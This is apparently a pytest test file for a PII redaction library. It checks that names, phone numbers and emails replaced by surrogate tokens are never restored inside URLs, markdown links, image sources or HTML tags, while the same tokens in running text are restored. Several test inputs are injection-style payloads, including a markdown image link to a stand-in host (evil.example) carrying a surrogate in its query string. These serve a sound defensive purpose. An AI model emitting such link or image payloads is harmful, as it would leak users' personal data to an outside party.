"""Values never come back inside a URL or a link's target; the same words outside do."""

from collections.abc import Iterator

import pytest
from injections import INJECTIONS

from redaction.entity import ENTITIES, Field, Findings, Origin, Span
from redaction.mapping import Mapping
from redaction.policy import Policy
from redaction.replace import replace
from redaction.restore import Mode, Place, Restorer

POLICY = Policy("test")

# The others leave a quote or a program open, and all that follows stands in it.
ENDED = {k: v for k, v in INJECTIONS.items() if k not in ("tag-unclosed", "script-other-end")}
TEXT = {
    "definition-title": "[x]: /a '[성명_1]'",
    "sentence": "[성명_1]님께 안내합니다.",
    "end-of-sentence": "담당자는 [성명_1].\n다음",
    "phone-in-brackets": "[성명_1]([전화번호_1])",
    "slash": "[성명_1]/[전화번호_1]",
    "colon": "담당자:[성명_1]",
    "tel": "TEL:[전화번호_1]",
    "after-url": "https://korea.example/a [성명_1]",
    "after-link": "[여기](https://korea.example/a) [성명_1]",
    "after-autolink": "<https://korea.example/a>[성명_1]",
    "after-tag": "<b>[성명_1]</b>",
    "less-than": "3 < 4, [성명_1]",
    "angle-brackets": "<[성명_1]>",
    "mail": "[이메일_1]로 보내세요",
    "mail-in-brackets": "[성명_1]([이메일_1])",
    "mail-behind-comma": "[성명_1],[이메일_1]",
    "mail-behind-particle": "[성명_1]는 [이메일_1]",
    "mail-then-slash": "[이메일_1]/[성명_1]",
    "file": "[성명_1].hwp",
    "file-with-underscore": "[성명_1]_신청서.pdf",
    "form-label": "성명[필수]: [성명_1]",
    "footnote": "[^1]: [성명_1]의 말",
    "after-definition": "[x]: https://korea.example\n[성명_1]",
    "date": "2026.3.4./[성명_1]",
    "abbreviation": "(주)한국.[성명_1]",
    "list": "1. [성명_1]\n2. [전화번호_1]",
    "table": "| [성명_1] | [전화번호_1] |",
    "possessive": "[성명_1]'s",
    "reference-number-then-slash": "[1]/[성명_1]",
    "tilde": "10~[성명_1]",
    "blank-line-ends-tag": "a <b\n\n[성명_1]",
    "blank-line-ends-target": "[a](b\n\n[성명_1]",
    "blank-line-ends-tag-behind-value": 'a <b c="d"\n\n[성명_1]',
    "closed-quote": '<b c="\n\n"> [성명_1]',
    "after-program": "<style>p{}</style> [성명_1] <script src=a></script>[성명_1]",
    "tag-like-program": "<scripts> [성명_1]",
    "program-in-code": "`<script>`로 [성명_1]",
    "program-in-block": "```\n<script>\n```\n[성명_1]",
    "sentences-glued": "끝.[성명_1].다음.문장",
    "semicolon": "[성명_1];[전화번호_1]",
    "entity-space": "[성명_1]&nbsp;님",
    "zero-width": "[성명_1]\u200b님",
    "port-like": "오전 10:30 [성명_1] 10:3",
    "hangul-words-slash": "안녕.하세요/[성명_1]",
    "version": "3.11/[성명_1]",
    "open-quote-ends-at-last": 'a <b c="d\n\n' + "가" * 8_200 + " [성명_1]",
}


def mapping() -> Mapping:
    text = "김철수 010-1234-5678 kim@korea.kr"
    spans = (
        Span(0, 3, "PERSON", 1.0),
        Span(4, 17, "PHONE_NUMBER", 1.0),
        Span(18, 30, "EMAIL_ADDRESS", 1.0),
    )
    return replace([Field(text, Origin.USER)], Findings((spans,), "test"), POLICY).mapping


MAPPING = mapping()


def restored(pieces: list[str], mode: Mode = Mode.AGREE) -> tuple[str, dict[str, int]]:
    restorer = Restorer(MAPPING, POLICY, place=Place.TEXT, mode=mode)
    said = [*map(restorer.feed, pieces), restorer.flush()]
    return "".join(said), dict(restorer.counts)


def restore(text: str, size: int) -> tuple[str, dict[str, int]]:
    return restored([text[at : at + size] for at in range(0, len(text), size)])


def splits(text: str) -> Iterator[list[str]]:
    """Whole, in single characters, and in every two pieces (of the last 300 characters)."""
    yield [text]
    yield list(text)
    for at in range(max(1, len(text) - 300), len(text)):
        yield [text[:at], text[at:]]


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_no_original_in_a_link(text):
    answer = text if text[0] in "[>-# 1" else f"답: {text}"
    for pieces in splits(answer):
        for mode in Mode:
            said, counts = restored(pieces, mode)
            assert said == answer
            assert "restored" not in counts


@pytest.mark.parametrize(
    ("value", "entity", "answer"),
    [
        ("203.0.113.7", "IP_ADDRESS", "[{}]/[성명_1]"),
        ("203.0.113.7", "IP_ADDRESS", "[{}]:8080/?q=[성명_1]"),
        ("a](<", "SECRET", "![x [{}]//evil.example/?q= [성명_1]>)"),
        ("a]", "SECRET", "![[{}](p?q=[성명_1])"),
        ("(/p?q=", "SECRET", "![x][{}][성명_1])"),
        ("<img", "SECRET", "[{}] src='/p?q= [성명_1]'>"),
    ],
)
def test_value_that_begins_a_link_lets_no_other_in(value, entity, answer):
    text = f"김철수 {value}"
    spans = (Span(0, 3, "PERSON", 1.0), Span(4, len(text), entity, 1.0))
    mapping = replace([Field(text, Origin.USER)], Findings((spans,), "test"), POLICY).mapping
    answer = answer.format(f"{ENTITIES[entity].label}_1")
    for pieces in splits(answer):
        restorer = Restorer(mapping, POLICY, place=Place.TEXT)
        said = "".join([*map(restorer.feed, pieces), restorer.flush()])
        assert value in said
        assert "김철수" not in said


@pytest.mark.parametrize("between", ["", ".", "-", "님", "는."])
@pytest.mark.parametrize("place", [Place.TEXT, Place.JSON])
def test_address_takes_no_other_value_in(between, place):
    for pieces in splits(f'"[성명_1]{between}[이메일_1]", "[이메일_1]"'):
        restorer = Restorer(MAPPING, POLICY, place=place, mode=Mode.EXACT)
        said = "".join([*map(restorer.feed, pieces), restorer.flush()])
        assert said == f'"김철수{between}[이메일_1]", "kim@korea.kr"'


def test_there_are_enough_injections():
    assert len(set(INJECTIONS.values())) >= 200


@pytest.mark.parametrize("size", [1, 2, 3, 100_000])
@pytest.mark.parametrize("text", ENDED.values(), ids=ENDED.keys())
def test_same_surrogate_outside_the_link_comes_back(text, size):
    said, _ = restore(f"{text}\n\n```\n```\n\n[성명_1]은 안녕", size)
    assert said.endswith("김철수는 안녕")


@pytest.mark.parametrize("size", [1, 2, 3, 100_000])
@pytest.mark.parametrize("text", TEXT.values(), ids=TEXT.keys())
def test_running_text_is_restored(text, size):
    said, counts = restore(text, size)
    assert "_1" not in said
    assert counts["restored"] == text.count("_1]")
